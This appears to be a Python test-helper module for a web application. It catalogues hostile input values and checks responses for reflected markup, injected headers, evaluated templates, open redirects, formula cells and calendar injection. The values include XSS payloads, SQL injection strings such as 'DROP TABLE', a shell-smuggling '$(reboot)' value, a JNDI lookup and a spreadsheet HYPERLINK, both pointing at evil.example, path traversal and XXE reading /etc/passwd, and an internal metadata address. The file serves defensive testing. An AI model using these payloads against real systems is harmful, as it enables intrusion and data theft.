"""What nobody types by accident, and how to see in an answer that it has done harm."""

import csv
import html
import io
import os
import re
from html.parser import HTMLParser

from werkzeug.test import TestResponse

# Each does harm where one layer forgets to treat it as text. `hostile` is the word that must never become markup, a
# header, a line of a calendar; 9449848657217 is what
# 1234577*7654321 makes where it is calculated.
VALUES: dict[str, str] = {
    # Nothing, or nothing to see
    "empty": "",
    "blanks": " \t\u3000\u00a0",
    "zero width": "\u200b\u200d\u2060",
    # Control characters and what writing directions can hide
    "null byte": "a\0b",
    "all controls": "".join(map(chr, [*range(32), *range(127, 160)])),
    "terminal": "\x1b[31mred\x1b]0;title\x07",
    "header by CRLF": "x\r\nHostile: 1\r\n\r\nhostile",
    "header by LF": "x\nHostile: 1",
    "line separators": "a\u0085b\u2028c\u2029d",
    "right to left": "\u202egnp.exe\u2066\u2067",
    "byte order mark": "\ufeffx",
    # Text that grows, or is none
    "combining": "e" + "\u0301" * 3000,
    "grows 18 times": "ﷺ" * 119,
    "grows in lower case": "İß" * 59,
    "lone surrogate": "\ud800",
    "surrogates reversed": "\udc00\ud800",
    "no characters": "\uffff\U0010ffff\ufdd0",
    "beyond the plane": "𠮷野家😀👨‍👩‍👧",
    "private": "\ue000\U000f0000",
    "long": "長" * 20_000,
    "long address": "a" * 300 + "@example.jp",
    # Markup
    "script": "<script>hostile()</script>",
    "element": "</textarea></title></select></option><hostile>",
    "attribute": '" hostile="1" onfocus="hostile()" autofocus x=\'',
    "attribute in single quotes": "' hostile='1' onfocus='hostile()'",
    "image": "<img src=x onerror=hostile()>",
    "svg": "<svg/onload=hostile()>",
    "comment": "<!-- hostile",
    "end of CDATA": "]]><hostile>",
    "entity": "&lt;hostile&gt;&#60;hostile&#62;&#x0;",
    "script address": "javascript:hostile()",
    "script address, hidden": "java\tscript:hostile()",
    "data address": "data:text/html,<script>hostile()</script>",
    # Templates and formats
    "template": "{{1234577*7654321}}${1234577*7654321}#{1234577*7654321}<%=1234577*7654321%>",
    "template block": "{% if 1 %}{{config}}{% raw %}",
    "percent": "%s%n%(name)s%",
    "braces": "{0.__class__.__mro__}{}",
    # Queries, shells, files, other hosts
    "query": "'; DROP TABLE person; --",
    "query by or": "' OR '1'='1",
    "query by backslash": "\\' OR 1=1 -- ",
    "wildcards": "%_%",
    "shell": "$(reboot)`reboot`;|&",
    "lookup": "${jndi:ldap://evil.example/x}",
    "path": "../../../../etc/passwd",
    "path of another system": "..\\..\\windows\\win.ini",
    "entity of a file": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "other host": "//evil.example/",
    "other host by backslash": "/\\evil.example/",
    "broken address": "http://[",
    "broken port": "http://example.jp:99999/",
    "own network": "http://169.254.169.254/latest/",
    # Mail, calendars, tables
    "encoded word": "=?utf-8?q?x=0D=0AHostile:_1?=",
    "encoded word in base64": "=?utf-8?b?eA0KSG9zdGlsZTogMQ==?=",
    "second recipient": "a@example.jp, b@example.jp",
    "recipient by quotes": '"a\r\nBcc: b@example.jp"@example.jp',
    "calendar line": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nHOSTILE:1",
    "calendar text": "a;b,c:d\\n\\;HOSTILE",
    "formula": '=HYPERLINK("http://evil.example";"x")',
    "formula in full width": "＝1+1",
    "formula by tab": "\t=1+1",
    "never-ending rule": "FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30",
    # Numbers and dates
    "minus one": "-1",
    "zero": "0",
    "beyond 32 bits": "2147483648",
    "beyond 64 bits": "9223372036854775808",
    "5,000 digits": "9" * 5000,
    "fraction": "1.5",
    "infinite": "1e400",
    "no number": "NaN",
    "digits of another script": "٣",
    "superscript": "²",
    "underscore": "1_000",
    "hexadecimal": "0x10",
    "first day": "0001-01-01",
    "last day": "9999-12-31",
    "no such day": "2026-02-30",
    "no such time": "24:61",
    "time with zone": "08:00+09:00",
    "null": "null",
    "list": "[]",
}


# Each of these fails in a layer of its own, so that every door is tried with it; of the others each door has a third.
EVERYWHERE = {
    *(
        "empty",
        "blanks",
        "null byte",
        "all controls",
        "header by CRLF",
        "combining",
        "lone surrogate",
        "long",
    ),
    *("element", "attribute", "attribute in single quotes", "template", "percent", "second recipient"),
    *("calendar line", "formula", "beyond 64 bits", "5,000 digits", "no number", "superscript", "last day"),
}
_OTHERS = [name for name in VALUES if name not in EVERYWHERE]


def values_for(number: int) -> dict[str, str]:
    """Return what is tried at a door: three that follow each other have all of it, or each where there is time."""
    tried = EVERYWHERE.union(_OTHERS if os.environ.get("TSUDOI_TEST_EXAMPLES") else _OTHERS[number % 3 :: 3])
    return {name: value for name, value in VALUES.items() if name in tried}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.harm += [f"<{tag}>"] if tag in {"hostile", "style"} else []
        for name, value in attrs:
            address = "".join((value or "").split()).lower() if name in {"href", "src", "action"} else ""
            if name == "hostile" or name.startswith("on") or address.startswith(("javascript:", "data:text")):
                self.harm.append(f"<{tag} {name}={value}>")
        # JSON-LD is data, which no browser runs; what breaks out of it is read as tags and seen here.
        is_data = dict(attrs) == {"type": "application/ld+json"}
        if tag == "script" and not dict(attrs).get("src") and not is_data:
            self.harm.append("<script>")


def harm(answer: TestResponse) -> list[str]:
    """Name everything in an answer that should not be there."""
    found = [] if answer.status_code < 500 else [f"status {answer.status_code}"]
    found += [name for name, value in answer.headers if name == "Hostile" or "\n" in value]
    # A sheet of paper is no text; what it would say of a fault is.
    said = answer.get_data().decode(errors="replace")
    found += ["a trace"] if "Traceback" in said or "sqlalchemy" in said else []
    found += ["calculated"] if "9449848657217" in said else []
    found += ["leads away"] if _leads_away(answer.location or "/") else []
    harm_of = _HARM_OF.get(answer.mimetype or "")
    return found + (harm_of(answer.text) if harm_of else [])


def _leads_away(location: str) -> bool:
    own = location.removeprefix("http://localhost")
    return not own.startswith("/") or own.startswith(("//", "/\\"))


# Whatever `_Reader` finds has one of these in it: most pages have none, and need not be read tag by tag.
_MAY_HARM = re.compile(
    r"""hostile|<style|[\s"'/]on[^\s"'>/=]*[\s>/=]|<script(?! [^<>]*src="/[^"<>]*"[^<>]*>)""", re.IGNORECASE
)
_LEADS_TO_HARM = ("javascript:", "data:text")


def _may_harm(text: str) -> bool:
    addresses = "".join(html.unescape(text).split()).lower()
    return bool(_MAY_HARM.search(text)) or any(address in addresses for address in _LEADS_TO_HARM)


def _harm_of_page(text: str) -> list[str]:
    if not _may_harm(text):
        return []
    reader = _Reader()
    reader.feed(text)
    return reader.harm


def _harm_of_calendar(text: str) -> list[str]:
    lines = text.replace("\r\n", "\0").split("\0")
    broken = ["broken line"] if any("\n" in line or "\r" in line for line in lines) else []
    return broken + [line for line in lines if line.startswith("HOSTILE")]


def _harm_of_table(text: str) -> list[str]:
    cells = (cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row)
    return [cell for cell in cells if cell.lstrip(" \u3000").startswith(("=", "+", "-", "@", "＝", "\t"))]


_HARM_OF = {"text/html": _harm_of_page, "text/calendar": _harm_of_calendar, "text/csv": _harm_of_table}

# JSON of the wrong type in place of a value.
WRONG_TYPES = (
    "null",
    "true",
    "0",
    "-1",
    "1.5",
    "1e400",
    "9" * 30,
    "9" * 5000,
    "2147483648",
    '""',
    '"x"',
    '"\\ud800"',
    '"\\u0000"',
    "[]",
    "[null]",
    "[[[]]]",
    "{}",
    '{"a": 1}',
    "[" + "1," * 3000 + "1]",
)

# Each of these fails in a layer of its own: every field is tried with it, and with a third of the others.
_ALWAYS = ("null", "1e400", "9" * 5000, '""', '"\\ud800"', '"\\u0000"', "[null]", "{}")


def wrong_types_for(number: int) -> list[str]:
    """Return what is tried in a field: three that follow each other have all of it, or each where there is time."""
    others = [wrong for wrong in WRONG_TYPES if wrong not in _ALWAYS]
    return [*_ALWAYS, *(others if os.environ.get("TSUDOI_TEST_EXAMPLES") else others[number % 3 :: 3])]


# Bodies that are no object, or no JSON.
BODIES = (
    b"",
    b"null",
    b"true",
    b"1",
    b'"x"',
    b"[]",
    b"[{}]",
    b"{",
    b"{}}",
    b"{'a': 1}",
    b'{"a": NaN}',
    b'{"email": "a", "email": "b"}',
    b"\xef\xbb\xbf{}",
    b'{"email": "\xff\xfe"}',
    b'{"email": "\xed\xa0\x80"}',
    "{}".encode("utf-16"),
    b"\0" * 1000,
    b"[" * 100_000,
    b'{"a":' * 100_000,
    b'{"slots":' + b"[" * 5000 + b"]" * 5000 + b"}",
    b'{"slots": [' + b'{"name": "a", "places": 1},' * 20_000 + b'{"name": "a", "places": 1}]}',
    b'{"adults": [' + b'"a",' * 100_000 + b'"a"]}',
    b'{"ticks": ['
    + b'{"participation_id": 1, "people": 1},' * 20_000
    + b'{"participation_id": 1, "people": 1}]}',
    b'{"email": "' + b"a" * 900_000 + b'"}',
    b'{"email": "' + b"a" * 1_100_000 + b'"}',
)

_FORM = "application/x-www-form-urlencoded"
_PARTS = "multipart/form-data; boundary=x"
_PART = b'--x\r\nContent-Disposition: form-data; name="title"%b\r\n\r\n%b\r\n'
# Bodies of a form: the kind that they claim to be, and the bytes.
FORM_BODIES: dict[str, tuple[str, bytes]] = {
    "5,000 fields": (_FORM, b"&".join(b"f%d=1" % number for number in range(5000))),
    "5,000 rows": (_FORM, b"&".join(b"slots-%d-name=a" % number for number in range(5000))),
    "5,000 children": (_FORM, b"&".join(b"children-%d=3" % number for number in range(5000))),
    "5,000 times the same": (_FORM, b"&".join([b"title=a"] * 5000)),
    "row with a superscript number": (_FORM, "slots-²-name=a&children-²=1".encode()),
    "row with digits of another script": (_FORM, "slots-٣-name=a&children-٣=1".encode()),
    "row with 5,000 digits": (_FORM, b"slots-" + b"9" * 5000 + b"-name=a&children-" + b"9" * 5000 + b"=1"),
    "row number below zero": (_FORM, b"slots--1-name=a&children--1=1"),
    "no names": (_FORM, b"=a&=&&&=b"),
    "names that are no text": (_FORM, b"%00=a&%ED%A0%80=b&%FF%FE=c&\xff=d"),
    "broken percent signs": (_FORM, b"title=%&place=%zz&name=%4"),
    "half a megabyte": (_FORM, b"title=" + b"a" * 499_000),
    "a megabyte": (_FORM, b"title=" + b"a" * 1_048_576),
    "2,000 parts": (_PARTS, _PART % (b"", b"a") * 2000 + b"--x--"),
    "a file in place of a text": (_PARTS, _PART % (b'; filename="../x"', b"<hostile>") + b"--x--"),
    "a part that never ends": (_PARTS, _PART % (b"", b"a" * 10_000)),
    "no boundary": ("multipart/form-data", b"--x"),
    "JSON": ("application/json", b'{"title": "a"}'),
    "text of no known kind": ("text/x-hostile; charset=utf-7", b"+ADw-hostile+AD4-"),
    "nothing": ("", b""),
}
